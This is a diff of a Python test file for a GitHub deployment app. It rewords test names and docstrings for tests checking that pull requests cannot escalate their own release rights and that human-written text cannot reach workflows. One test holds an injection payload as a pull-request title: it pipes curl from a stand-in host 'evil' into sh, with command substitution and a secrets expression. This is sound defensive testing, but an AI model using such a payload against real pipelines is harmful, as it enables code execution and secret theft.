@@ -1,4 +1,4 @@
-"""Who decides: the default branch and GitHub's roles of that moment. Nothing that a pull request brings along."""
+"""Authority comes from the default branch and the current GitHub roles, never from the contents of a pull request."""
 
 from dataclasses import replace
 from pathlib import Path
@@ -11,7 +11,7 @@ LAX = "environments: {production: {workflow: other.yml, deployers: [read], requi
 
 
 async def test_a_pull_request_cannot_grant_itself_a_release(shop: Scene) -> None:
-    """Its own config would let its author in, and release it unmerged: it is not read."""
+    """The config on its own branch would allow its author and an unmerged release; it is not read."""
     shop.shop.people["ken"] = "read"
     pull = await shop.opens("ken", files={".github/ghapp.yml": LAX})
     await shop.says("ken", "/deploy", on=pull)
@@ -22,7 +22,7 @@ async def test_a_pull_request_cannot_grant_itself_a_release(shop: Scene) -> None
 
 
 async def test_a_side_branch_with_a_config_of_its_own_changes_nothing(shop: Scene) -> None:
-    """A pull request merged there is none of production's, whatever that branch says."""
+    """A pull request merged into a side branch is not one of production's, whatever that branch's config allows."""
     shop.shop.git.branches["side"] = shop.shop.head
     pull = await shop.opens("mona", files={".github/ghapp.yml": LAX}, base="side")
     await shop.merges("mona", pull)
@@ -31,16 +31,16 @@ async def test_a_side_branch_with_a_config_of_its_own_changes_nothing(shop: Scen
     assert shop.runs() == []
 
 
-async def test_a_member_of_the_organisation_is_nobody_without_a_role(shop: Scene) -> None:
-    """What GitHub calls the author of a comment says nothing of what they may do here."""
+async def test_a_member_of_the_organization_without_a_role_may_not_deploy(shop: Scene) -> None:
+    """The comment's author association does not grant rights in this repository."""
     pull = await merged(shop)
     shop.shop.people["ken"] = "triage"
     await shop.says("ken", "/deploy", on=pull)
     assert shop.codes(pull) == ["not_allowed"]
 
 
-async def test_who_lost_the_right_a_second_ago_has_lost_it(shop: Scene) -> None:
-    """It is asked of GitHub each time, and kept for nobody."""
+async def test_a_role_that_was_just_removed_no_longer_counts(shop: Scene) -> None:
+    """GitHub is asked for the role each time; roles are not cached."""
     first = await shop.released("taro")
     await shop.says("taro", "/unlock", on=first)
     second = await merged(shop, "taro")
@@ -50,8 +50,8 @@ async def test_who_lost_the_right_a_second_ago_has_lost_it(shop: Scene) -> None:
     assert len(shop.runs()) == 1
 
 
-async def test_what_people_wrote_never_reaches_the_workflow(shop: Scene) -> None:
-    """Titles, names of branches and reasons are text: the inputs are a commit, a name from the config, and a number."""
+async def test_text_written_by_people_never_reaches_the_workflow(shop: Scene) -> None:
+    """Titles, branch names and reasons are not inputs: these are a commit, a name from the config, and a number."""
     title = '"; curl evil | sh #`$(id)`${{ secrets.X }}'
     pull = await shop.opens("taro", title)
     await shop.merges("taro", pull)
@@ -62,8 +62,8 @@ async def test_what_people_wrote_never_reaches_the_workflow(shop: Scene) -> None
     assert "evil" not in run.display_title
 
 
-async def test_a_broken_config_starts_nothing_and_keeps_nobody_locked_out(shop: Scene) -> None:
-    """`/deploy` is refused with line and reason; what is held under the last valid one can still be ended."""
+async def test_a_broken_config_starts_nothing_and_locks_can_still_be_ended(shop: Scene) -> None:
+    """`/deploy` is refused with line and reason; a hold under the last valid config can still be ended."""
     first = await shop.released("taro")
     second = await merged(shop, "mona")
     broken = SMALL_CONFIG.replace("workflow", "workfow")
@@ -76,8 +76,8 @@ async def test_a_broken_config_starts_nothing_and_keeps_nobody_locked_out(shop: 
     assert len(shop.runs()) == 1
 
 
-async def test_anothers_lock_is_ended_by_an_unlocker_with_a_reason_only(shop: Scene) -> None:
-    """And its holder hears of it."""
+async def test_another_persons_lock_is_ended_only_by_an_unlocker_with_a_reason(shop: Scene) -> None:
+    """The holder of the lock is mentioned."""
     config = SMALL_CONFIG.replace("deploy.yml", "deploy.yml, unlockers: [mona]")
     await shop.shop.commit(".github/ghapp.yml", config, by="mona", message="Name the unlocker")
     pull = await merged(shop)
@@ -90,8 +90,8 @@ async def test_anothers_lock_is_ended_by_an_unlocker_with_a_reason_only(shop: Sc
     assert "@taro" in told
 
 
-async def test_a_permission_that_nobody_has_accepted_yet_stops_nothing_else(tmp_path: Path) -> None:
-    """A new version asks for more: until the owner accepts it, what was granted goes on working."""
+async def test_a_permission_that_is_not_accepted_yet_stops_nothing_else(tmp_path: Path) -> None:
+    """A new version requests more permissions: until the owner accepts them, ghapp works with the granted ones."""
     async with scene(tmp_path) as shop:
         before = {name: level for name, level in shop.github.app.permissions.items() if name != "deployments"}
         shop.github.app = replace(shop.github.app, permissions=before | {"actions": "write", "contents": "write"})
